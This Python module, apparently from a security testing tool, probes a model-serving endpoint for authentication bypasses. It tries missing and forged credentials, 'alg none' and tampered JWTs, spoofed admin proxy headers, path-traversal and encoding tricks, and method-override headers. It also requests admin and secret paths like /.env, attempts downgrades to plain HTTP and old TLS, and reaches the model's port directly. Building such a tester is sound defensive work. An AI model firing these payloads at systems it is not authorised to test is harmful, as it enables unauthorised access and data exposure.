"""Ways past who may ask: no credentials, made-up ones, other paths, other ports."""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Sequence
from typing import Any

from modelward.attack import tokens
from modelward.attack.exchange import Finding, Reply, Request, Steps, skipped
from modelward.attack.target import PURPOSE_HEADER, Target

OTHER_PURPOSE = "modelward-attack-no-such-purpose"
_SPOOFED = {
    "x-forwarded-user": "admin",
    "x-remote-user": "admin",
    "x-forwarded-email": "admin@example.org",
    "x-auth-request-user": "admin",
    "x-authenticated-userid": "admin",
    "x-forwarded-client-cert": 'By=spiffe://cluster.local/ns/default/sa/default;URI="spiffe://cluster.local/ns/x/sa/admin"',
    "x-forwarded-for": "127.0.0.1",
    "x-real-ip": "127.0.0.1",
    "forwarded": "for=127.0.0.1;proto=https",
    "x-modelward-subject": "user:admin",
}
_OVERRIDES = ("x-http-method-override", "x-http-method", "x-method-override")
_REWRITES = ("x-original-url", "x-rewrite-url", "x-forwarded-prefix", "x-forwarded-uri")
_ADMIN = (
    ("POST", "/v2/repository/index"),
    ("POST", "/v2/repository/models/{model}/unload"),
    ("POST", "/v2/repository/models/modelward-attack-none/load"),
    ("GET", "/v2/systemsharedmemory/status"),
    ("GET", "/v2/cudasharedmemory/status"),
    ("GET", "/v2/trace/setting"),
    ("GET", "/v2/logging"),
    ("GET", "/v2/models/{model}/stats"),
    ("GET", "/metrics"),
    ("GET", "/docs"),
    ("GET", "/v2/docs"),
    ("GET", "/v2/docs/dataplane.json"),
    ("GET", "/openapi.json"),
    ("GET", "/debug/pprof/"),
    ("GET", "/actuator/env"),
    ("GET", "/.env"),
    ("GET", "/.modelward/incidents"),
    ("GET", "/models"),
    ("GET", "/v1/models/{model}/metadata"),
)
_LATER = 4_102_444_800  # the year 2100
_SHOWN = 6  # attempts that the evidence names


def granted(asked: Iterable[tuple[str, Request]], *, let_in: bool = True) -> Steps:
    """Ask each; the attack succeeds where one of them is granted.

    Args:
        asked: what each is, and the request.
        let_in: whether it is enough to get past authentication, though the input is refused.
    """
    seen: list[tuple[str, Reply]] = []
    for what, request in asked:
        reply = yield request
        seen.append((what, reply))
    return judged(seen, let_in=let_in)


def judged(seen: Sequence[tuple[str, Reply]], *, let_in: bool = True) -> Finding:
    """What came of requests of which none should be granted; measured is how many were."""
    through = [(what, reply) for what, reply in seen if (reply.let_in if let_in else reply.good)]
    if through:
        named = ", ".join(f"{what} ({reply.told})" for what, reply in through[:_SHOWN])
        more = f" and {len(through) - _SHOWN} more" if len(through) > _SHOWN else ""
        return Finding("Succeeded", f"{len(through)} of {len(seen)} got through: {named}{more}", len(through), 0)
    if not any(reply.status for _, reply in seen) and all(reply.trouble == "timeout" for _, reply in seen):
        return Finding("Inconclusive", f"none of {len(seen)} was answered in time", 0, 0)
    return Finding("Withstood", f"0 of {len(seen)} got through; answers: {counted(seen)}", 0, 0)


def counted(seen: Sequence[tuple[str, Reply]]) -> str:
    """How often each answer came."""
    told = [reply.told for _, reply in seen]
    return ", ".join(f"{one} x{told.count(one)}" for one in sorted(set(told)))


def no_token(target: Target) -> Steps:
    """Ask without credentials."""
    bare = target.headers(token=None)
    return granted(
        (
            ("infer without credentials", target.infer(target.content(), bare, target.nobody)),
            ("metadata without credentials", target.get(target.about, bare, target.nobody)),
            (
                "infer with an empty bearer",
                target.infer(target.content(), bare | {"authorization": "Bearer "}, target.nobody),
            ),
            (
                "infer with Basic",
                target.infer(target.content(), bare | {"authorization": "Basic YWRtaW46YWRtaW4="}, target.nobody),
            ),
        )
    )


def garbage_token(target: Target) -> Steps:
    """Ask with tokens that are none."""
    return granted(
        (f"garbage token {index}", target.infer(target.content(), target.headers(token=token)))
        for index, token in enumerate(tokens.GARBAGE, 1)
    )


def _edited(target: Target, named: Iterable[tuple[str, str]]) -> Steps:
    return granted((what, target.infer(target.content(), target.headers(token=token))) for what, token in named)


def _with_parts(target: Target) -> tokens.Parts | None:
    return tokens.parts_of(target.callers.token) if target.callers.token else None


_NOTHING_TO_CHANGE = "no token was given that could be changed: give one, a JSON Web Token, with --token-file"


def unsigned_token(target: Target) -> Steps:
    """Ask with the token, of which it is said that it needs no signature."""
    parts = _with_parts(target)
    if parts is None:
        return skipped(_NOTHING_TO_CHANGE)
    return _edited(target, ((f"alg none {index}", token) for index, token in enumerate(tokens.unsigned(parts), 1)))


def forged_token(target: Target) -> Steps:
    """Ask with the token and another signature."""
    parts = _with_parts(target)
    if parts is None:
        return skipped(_NOTHING_TO_CHANGE)
    return _edited(target, ((f"signature {index}", token) for index, token in enumerate(tokens.resigned(parts), 1)))


def changed_claims(target: Target) -> Steps:
    """Ask with the token and other claims under the former signature."""
    parts = _with_parts(target)
    if parts is None:
        return skipped(_NOTHING_TO_CHANGE)
    claims: dict[str, dict[str, Any]] = {
        "expired": {"exp": 1},
        "not valid yet": {"nbf": _LATER},
        "another audience": {"aud": "modelward-attack"},
        "another issuer": {"iss": "https://modelward-attack.example"},
        "another subject": {"sub": "admin", "groups": ["system:masters", "admin"]},
        "another purpose": {"purpose": OTHER_PURPOSE},
    }
    return _edited(target, ((what, tokens.changed(parts, **claim)) for what, claim in claims.items()))


def stranger(target: Target) -> Steps:
    """Ask with a token that verifies, as somebody whom no rule lets ask."""
    if target.stranger is None:
        return skipped("no token of somebody without rights was given: --stranger-token-file")
    headers = target.headers(token=target.stranger)
    return granted(
        (
            ("infer as a stranger", target.infer(target.content(), headers)),
            ("metadata as a stranger", target.get(target.about, headers)),
        )
    )


def purpose(target: Target) -> Steps:
    """Ask without the purpose, and for one that no rule names."""
    parts = _with_parts(target)
    if parts is not None and "purpose" in parts.claims:
        return skipped("the token's claim says the purpose, and a header does not count beside it")
    if target.purpose is None:
        return skipped("no purpose was given that could be left out: --purpose")
    bare = target.headers(purpose=None)
    asked = [
        ("no purpose", target.infer(target.content(), bare)),
        ("another purpose", target.infer(target.content(), bare | {PURPOSE_HEADER: OTHER_PURPOSE})),
        ("an empty purpose", target.infer(target.content(), bare | {PURPOSE_HEADER: ""})),
    ]
    return granted(asked)


def spoofed_identity(target: Target) -> Steps:
    """Say who one is in headers that a proxy would set."""
    bare = target.headers(token=None)
    each = [
        (name, target.infer(target.content(), bare | {name: said}, target.nobody)) for name, said in _SPOOFED.items()
    ]
    return granted([*each, ("all of them", target.infer(target.content(), bare | _SPOOFED, target.nobody))])


def paths(target: Target) -> Steps:
    """Ask without credentials by the paths that a filter and a server may read differently."""
    bare = target.headers(token=None)
    body = target.content()
    return granted(
        (path if len(path) < 40 else f"{path[:40]}…", Request("POST", path, bare, body, channel=target.nobody))
        for path in _spelt(target.path)
    )


def _spelt(path: str) -> Iterator[str]:
    version, _, rest = path[1:].partition("/")
    yield f"//{version}/{rest}"
    yield f"/{version}//{rest}"
    yield f"{path}/"
    yield f"{path}."
    yield f"{path}%00"
    yield f"{path};x=y"
    yield f"{path}?x=y"
    yield f"{path}#x"
    yield path.upper()
    yield f"/{version.upper()}/{rest}"
    yield f"/x/../{version}/{rest}"
    yield f"/{version}/./{rest}"
    yield f"/{version}/health/live/../../{rest}"
    yield f"/{version}/health/live/%2e%2e/%2e%2e/{rest}"
    yield f"/{version}/health/live/..%2f..%2f{rest}"
    yield f"/%{ord(version[0]):02x}{version[1:]}/{rest}"
    yield path.replace("/models/", "/%6dodels/", 1)
    yield path.replace("/models/", "/models%2f", 1)
    yield path.replace("/", "\\")
    yield f"http://localhost{path}"


def overridden(target: Target) -> Steps:
    """Ask without credentials for what is open, with headers that make something else of it."""
    bare = target.headers(token=None)
    body = target.content()
    asked = [
        (name, Request("GET", target.path, bare | {name: "POST"}, body, channel=target.nobody)) for name in _OVERRIDES
    ] + [
        (name, Request("POST", "/v2/health/live", bare | {name: target.path}, body, channel=target.nobody))
        for name in _REWRITES
    ]
    return granted(asked)


def undeclared_model(target: Target) -> Steps:
    """Ask, as a caller who may, for models that were not declared."""
    body = target.content()
    names = (f"{target.model}-modelward-attack", "default", "model", f"{target.model}%2f..%2fother", "../admin")
    asked = [
        (f"model {name}", Request("POST", target.path_of(name), target.headers(), body))
        for name in names
        if name != target.model
    ]
    return granted(asked, let_in=False)


def admin(target: Target) -> Steps:
    """Ask, as a caller who may ask the model, for what administers the server or tells of it."""
    asked = [
        (path, Request(method, path.format(model=target.model), target.headers(), b"{}" if method == "POST" else None))
        for method, path in _ADMIN
        if not path.endswith("/unload")  # on a server that grants it, the model would be gone
    ]
    return granted(asked, let_in=False)


def plain_http(target: Target) -> Steps:
    """Ask the port of TLS without TLS."""
    if not target.tls:
        if target.loopback:
            return skipped("the URL is plain HTTP, on this machine alone")
        return _plain_itself()
    return granted(
        (
            ("infer without TLS", target.infer(target.content(), channel="plain")),
            ("metadata without TLS", target.get(target.about, channel="plain")),
        )
    )


def _plain_itself() -> Steps:
    return Finding("Succeeded", "the URL itself is plain HTTP: whoever is on the way reads all, tokens too", 1, 0)
    yield  # a generator, as the others


def old_tls(target: Target) -> Steps:
    """Ask by a version of TLS that is broken."""
    if not target.tls:
        return skipped("the URL is plain HTTP")
    return _old_tls(target)


def _old_tls(target: Target) -> Steps:
    reply = yield target.get(target.about, channel="old-tls")
    if reply.trouble == "unsupported":
        return Finding("Skipped", "TLS below 1.2 cannot be spoken by this machine's OpenSSL")
    if reply.status:
        return Finding("Succeeded", f"TLS 1.0 or 1.1 was accepted, and answered with {reply.told}", 1, 0)
    return Finding("Withstood", f"no handshake below TLS 1.2 ({reply.told})", 0, 0)


def model_port(target: Target) -> Steps:
    """Ask the model's own port, past the sidecar."""
    if not target.model_port:
        return skipped("where the model itself listens was not given: --model-port")
    return _model_port(target)


def _model_port(target: Target) -> Steps:
    asked = (
        ("readiness", target.get("/v2/health/live", {}, "model")),
        ("metadata", target.get(target.about, {}, "model")),
        ("infer", target.infer(target.content(), {"content-type": "application/json"}, "model")),
    )
    seen = []
    for what, request in asked:
        seen.append((what, (yield request)))
        if seen[-1][1].trouble == "refused":
            return Finding("Withstood", "the model's own port takes no connection from here", 0, 0)
    answered = [(what, reply) for what, reply in seen if reply.status]
    if answered:
        named = ", ".join(f"{what} {reply.told}" for what, reply in answered)
        return Finding("Succeeded", f"the model answers past the sidecar: {named}", len(answered), 0)
    return Finding("Withstood", f"the model's own port does not answer ({counted(seen)})", 0, 0)
